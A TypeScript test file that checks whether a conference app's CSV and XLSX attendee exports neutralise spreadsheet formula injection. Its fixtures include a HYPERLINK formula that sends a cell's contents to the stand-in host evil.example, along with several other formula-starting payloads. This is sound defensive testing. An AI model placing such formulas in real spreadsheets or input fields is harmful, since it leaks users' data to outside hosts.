import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { createConference, registrationBody } from './support/factories';
import { createTestApp, DEMO, type TestApp } from './support/test-app';

/** What a spreadsheet reads as the start of a formula (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"klicka")';

describe('attendee exports', () => {
  let t: TestApp;
  let committee: string;
  beforeAll(async () => {
    t = await createTestApp();
    committee = await t.login(DEMO.committee);
  });
  afterAll(() => t.close());

  const download = (path: string) =>
    t.http
      .get(path)
      .set('Authorization', committee)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);

  async function conferenceWithHostileNames() {
    const conference = await createConference(t, committee, { capacity: 10 });
    const register = (n: string, overrides: Record<string, unknown>) =>
      t.http
        .post(`/api/conferences/${conference.id}/registrations`)
        .send(registrationBody(n, overrides))
        .expect(201)
        .then((res) => res.body as { id: string });
    const hyperlink = await register('f1', {
      firstName: HYPERLINK,
      lastName: '+46 70 123 45 67',
      organisationName: '@SUM(A1:A9)',
      title: '-2+3',
      healthDataConsent: true,
      dietaryNeeds: '＝1+1',
      showOnAttendeeList: true,
    });
    // Tab and CR at the start: trimmed away by the form today, refused by validation later; old rows may hold them.
    const planted = await register('f2', {});
    await t.dataSource.query(
      `UPDATE registrations SET first_name = $2, last_name = $3, organisation_name = $4, accessibility_needs = $5 WHERE id = $1`,
      [planted.id, '\t=1+1', '\r=1+1', ' =1+1', '\n@x'],
    );
    const plain = await register('f3', { firstName: 'Anna-Karin', lastName: 'Åberg' });
    return { conference, hyperlink, planted, plain };
  }

  it('writes no CSV cell a spreadsheet would read as a formula, and keeps the text', async () => {
    const { conference } = await conferenceWithHostileNames();
    const res = await t.http.get(`/api/conferences/${conference.id}/registrations/export.csv`).set('Authorization', committee).expect(200);
    const rows: string[][] = parseCsv(res.text, { bom: true });
    expect(rows).toHaveLength(4);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    const header = rows[0];
    const byFirstName = new Map(rows.slice(1).map((row) => [row[header.indexOf('Förnamn')], row]));
    const hyperlink = byFirstName.get(`'${HYPERLINK}`) as string[];
    expect(hyperlink).toBeDefined();
    expect(hyperlink[header.indexOf('Efternamn')]).toBe(`'+46 70 123 45 67`);
    expect(hyperlink[header.indexOf('Organisation')]).toBe(`'@SUM(A1:A9)`);
    expect(hyperlink[header.indexOf('Roll/titel')]).toBe(`'-2+3`);
    expect(hyperlink[header.indexOf('Kost')]).toBe(`'＝1+1`);
    const planted = byFirstName.get(`'\t=1+1`) as string[];
    expect(planted).toBeDefined();
    expect(planted[header.indexOf('Efternamn')]).toBe(`'\r=1+1`);
    expect(planted[header.indexOf('Organisation')]).toBe(`' =1+1`);
    expect(planted[header.indexOf('Tillgänglighet')]).toBe(`'\n@x`);
    expect(byFirstName.get('Anna-Karin')?.[header.indexOf('Efternamn')]).toBe('Åberg');
  });

  it('writes the same names as text cells, never formulas, in the XLSX', async () => {
    const { conference } = await conferenceWithHostileNames();
    const xlsx = await download(`/api/conferences/${conference.id}/registrations/export.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(xlsx.body as Buffer).buffer);
    const sheet = workbook.getWorksheet('Deltagare') as ExcelJS.Worksheet;
    const texts: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeFalsy();
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
    // An XML parser reads a CR as LF.
    expect(texts).toEqual(expect.arrayContaining([HYPERLINK, '+46 70 123 45 67', '@SUM(A1:A9)', '\t=1+1', '\n=1+1', ' =1+1']));
  });

  it('shows the consent to appear on the attendee list in both exports', async () => {
    const { conference, hyperlink } = await conferenceWithHostileNames();
    const csv = await t.http.get(`/api/conferences/${conference.id}/registrations/export.csv`).set('Authorization', committee).expect(200);
    const rows: string[][] = parseCsv(csv.text, { bom: true });
    const column = rows[0].indexOf('Visas på deltagarlistan');
    expect(column).toBeGreaterThan(-1);
    const email = rows[0].indexOf('E-post');
    expect(Object.fromEntries(rows.slice(1).map((row) => [row[email], row[column]]))).toEqual({
      'personf1@kommun.se': 'ja',
      'personf2@kommun.se': 'nej',
      'personf3@kommun.se': 'nej',
    });

    const xlsx = await download(`/api/conferences/${conference.id}/registrations/export.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(xlsx.body as Buffer).buffer);
    const sheet = workbook.getWorksheet('Deltagare') as ExcelJS.Worksheet;
    const headers = (sheet.getRow(1).values as unknown[]).map(String);
    const consent = headers.indexOf('Visas på deltagarlistan');
    const emailColumn = headers.indexOf('E-post');
    expect(consent).toBeGreaterThan(0);
    const values: Record<string, unknown> = {};
    sheet.eachRow((row, n) => {
      if (n > 1) values[String(row.getCell(emailColumn).value)] = row.getCell(consent).value;
    });
    expect(values).toEqual({ 'personf1@kommun.se': 'ja', 'personf2@kommun.se': 'nej', 'personf3@kommun.se': 'nej' });
    expect(hyperlink.id).toBeTruthy();
  });
});
